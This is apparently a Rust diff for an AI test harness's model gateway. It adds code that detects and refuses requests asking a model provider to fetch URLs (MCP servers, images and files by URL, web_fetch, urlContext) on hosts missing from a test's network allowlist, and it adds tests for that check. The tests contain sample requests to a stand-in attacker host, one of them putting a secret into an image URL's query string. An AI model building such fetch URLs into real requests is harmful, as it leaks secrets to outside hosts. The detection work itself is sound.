@@ -79,6 +79,19 @@ pub enum Refused {
         /// The protocols the agent speaks, joined (`Anthropic Messages`).
         speaks: String,
     },
+    /// A request that would have the provider fetch a URL on a host the test does not list
+    /// under `network:`.
+    #[error(
+        "aptitude's model gateway refused this request: at `{at}` it asks the provider to fetch {what}, {why}; list the host under the test's `network:` to allow it"
+    )]
+    ProviderFetch {
+        /// Where in the request (`messages[0].content[1].source`, `tools[2]`).
+        at: String,
+        /// `` `https://host/path` `` or `any URL the model picks (web_fetch)`.
+        what: String,
+        /// Why it is not allowed.
+        why: String,
+    },
     /// The placeholder credential outside a credential header.
     #[error(
         "aptitude's model gateway refused `{method} {path}`: the placeholder credential appears in {place}, where the real key is never put"
@@ -165,6 +178,155 @@ fn gemini(rest: &str) -> Option<Admission> {
         "countTokens" => Some(Admission::Auxiliary),
         _ => None,
     }
+}
+
+/// A URL a request has the provider fetch (see [`provider_fetch`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Fetch {
+    /// Where in the request, as a JSON path (`messages[0].content[1].source`).
+    pub at: String,
+    /// The URL; `None` for a server-side fetch tool, which fetches whatever the model picks.
+    pub url: Option<String>,
+    /// What asks for it (`mcp_servers`, `source.type url`, `web_fetch tool`).
+    pub kind: &'static str,
+}
+
+/// Request fields that make the provider itself fetch a URL: Anthropic's `mcp_servers`
+/// (`url`), image and document `source: {type: "url", url}`, and its `web_fetch` server
+/// tool; the Responses API's `mcp` tools (`server_url`), `input_image.image_url` and
+/// `input_file.file_url`; Chat Completions' `image_url.url`; Gemini's `fileData.fileUri`
+/// and its `urlContext` tool. `data:` URLs and uploaded file ids fetch nothing.
+pub fn provider_fetches(body: &[u8]) -> Vec<Fetch> {
+    const NEEDLES: &[&str] = &[
+        "\"mcp_servers\"",
+        "\"url\"",
+        "\"server_url\"",
+        "\"image_url\"",
+        "\"file_url\"",
+        "\"fileUri\"",
+        "\"file_uri\"",
+        "web_fetch",
+        "urlContext",
+        "url_context",
+    ];
+    // Most requests hold none of these: no need to build the whole document.
+    if !NEEDLES
+        .iter()
+        .any(|n| memchr::memmem::find(body, n.as_bytes()).is_some())
+    {
+        return Vec::new();
+    }
+    let Ok(doc) = serde_json::from_slice::<serde_json::Value>(body) else {
+        return Vec::new();
+    };
+    let mut found = Vec::new();
+    walk(&doc, String::new(), &mut found);
+    found
+}
+
+fn walk(v: &serde_json::Value, at: String, found: &mut Vec<Fetch>) {
+    use serde_json::Value;
+    let fetched = |url: &Value| {
+        url.as_str()
+            .filter(|u| u.starts_with("http://") || u.starts_with("https://"))
+            .map(str::to_owned)
+    };
+    match v {
+        Value::Array(items) => {
+            for (i, item) in items.iter().enumerate() {
+                walk(item, format!("{at}[{i}]"), found);
+            }
+        }
+        Value::Object(map) => {
+            let kind = map.get("type").and_then(Value::as_str).unwrap_or("");
+            let mut note = |url: Option<String>, kind: &'static str| {
+                found.push(Fetch {
+                    at: if at.is_empty() {
+                        "(top)".into()
+                    } else {
+                        at.clone()
+                    },
+                    url,
+                    kind,
+                });
+            };
+            if kind == "url"
+                && let Some(url) = map.get("url").and_then(fetched)
+            {
+                note(Some(url), "a source of type url");
+            }
+            if kind == "mcp"
+                && let Some(url) = map.get("server_url").and_then(fetched)
+            {
+                note(Some(url), "an MCP server");
+            }
+            if kind.starts_with("web_fetch") {
+                note(None, "the web_fetch tool");
+            }
+            for key in ["image_url", "file_url", "fileUri", "file_uri"] {
+                let url = map
+                    .get(key)
+                    .and_then(|u| fetched(u).or_else(|| u.get("url").and_then(fetched)));
+                if let Some(url) = url {
+                    note(Some(url), "a file or image by URL");
+                }
+            }
+            if map.contains_key("urlContext") || map.contains_key("url_context") {
+                note(None, "Gemini's urlContext tool");
+            }
+            for (key, value) in map {
+                let path = if at.is_empty() {
+                    key.clone()
+                } else {
+                    format!("{at}.{key}")
+                };
+                if key == "mcp_servers" {
+                    for (i, server) in value.as_array().into_iter().flatten().enumerate() {
+                        if let Some(url) = server.get("url").and_then(fetched) {
+                            found.push(Fetch {
+                                at: format!("{path}[{i}]"),
+                                url: Some(url),
+                                kind: "an MCP server",
+                            });
+                        }
+                    }
+                    continue;
+                }
+                walk(value, path, found);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// The first of `fetches` the test's `network:` hosts (`allow`, as the sandbox's proxy
+/// reads them) do not cover, as a refusal: a URL on another host, or a fetch tool, whose
+/// URLs the model picks.
+pub fn refused_fetch(fetches: &[Fetch], allow: &[String]) -> Option<Refused> {
+    fetches.iter().find_map(|f| {
+        let cut = |t: &str| crate::shared::cut::chars(t, 200).kept.to_owned();
+        let Some(url) = &f.url else {
+            return Some(Refused::ProviderFetch {
+                at: cut(&f.at),
+                what: format!("any URL the model picks ({})", f.kind),
+                why: "which no `network:` entry can bound".into(),
+            });
+        };
+        let parsed = url::Url::parse(url).ok();
+        let host = parsed
+            .as_ref()
+            .and_then(|u| u.host_str().map(str::to_owned));
+        let port = parsed.as_ref().and_then(url::Url::port_or_known_default);
+        let ok = match (host, port) {
+            (Some(host), Some(port)) => crate::sandbox::proxy::allowed(allow, &host, port),
+            _ => false,
+        };
+        (!ok).then(|| Refused::ProviderFetch {
+            at: cut(&f.at),
+            what: format!("`{}` ({})", cut(url), f.kind),
+            why: "a host not listed under the test's `network:`".into(),
+        })
+    })
 }
 
 /// Whether `name` is a header the real credential may be put in.
@@ -651,5 +813,58 @@ mod tests {
         out.extend(s.finish());
         assert_eq!(String::from_utf8(out).unwrap(), plain);
         assert_eq!(s.scrubbed, 0);
+    }
+
+    /// The provider is not a network path: each field that would have it fetch a URL is
+    /// found, on every protocol; a host listed under `network:` is let through, a fetch
+    /// tool never.
+    #[test]
+    fn provider_fetches_are_found_on_every_protocol() {
+        let anthropic = br#"{"model":"claude-sonnet-4-5","mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}],"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/a.png?d=SECRET"}},{"type":"document","source":{"type":"base64","data":"aGk="}},{"type":"text","text":"see https://docs.example/x"}]}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"},{"type":"web_search_20250305","name":"web_search"}]}"#;
+        let found: Vec<(String, Option<String>)> = provider_fetches(anthropic)
+            .into_iter()
+            .map(|f| (f.at, f.url))
+            .collect();
+        assert!(
+            found.contains(&(
+                "mcp_servers[0]".into(),
+                Some("https://evil.example/mcp".into())
+            )),
+            "{found:?}"
+        );
+        assert!(
+            found.contains(&(
+                "messages[0].content[0].source".into(),
+                Some("https://evil.example/a.png?d=SECRET".into())
+            )),
+            "{found:?}"
+        );
+        assert!(found.contains(&("tools[0]".into(), None)), "{found:?}");
+        assert_eq!(
+            found.len(),
+            3,
+            "text and web_search fetch nothing: {found:?}"
+        );
+        let responses = br#"{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/i.png"},{"type":"input_file","file_url":"https://evil.example/f.pdf"},{"type":"input_image","image_url":"data:image/png;base64,AAAA"}]}],"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example/sse"}]}"#;
+        assert_eq!(provider_fetches(responses).len(), 3);
+        let chat = br#"{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/c.png"}}]}]}"#;
+        assert_eq!(provider_fetches(chat).len(), 1);
+        let gemini = br#"{"contents":[{"parts":[{"fileData":{"mimeType":"application/pdf","fileUri":"https://evil.example/g.pdf"}}]}],"tools":[{"urlContext":{}}]}"#;
+        assert_eq!(provider_fetches(gemini).len(), 2);
+        assert!(provider_fetches(br#"{"messages":[{"role":"user","content":"hi"}]}"#).is_empty());
+        // `network:` lets a listed host through, never a fetch tool.
+        let chat_fetches = provider_fetches(chat);
+        assert!(refused_fetch(&chat_fetches, &["evil.example".into()]).is_none());
+        let refused = refused_fetch(&chat_fetches, &["other.example".into()]).unwrap();
+        assert_eq!(
+            refused.to_string(),
+            "aptitude's model gateway refused this request: at `messages[0].content[0]` it asks the provider to fetch `https://evil.example/c.png` (a file or image by URL), a host not listed under the test's `network:`; list the host under the test's `network:` to allow it"
+        );
+        let tool = provider_fetches(anthropic);
+        assert!(
+            refused_fetch(&tool, &["evil.example".into()]).is_some_and(|r| r
+                .to_string()
+                .contains("any URL the model picks (the web_fetch tool)"))
+        );
     }
 }
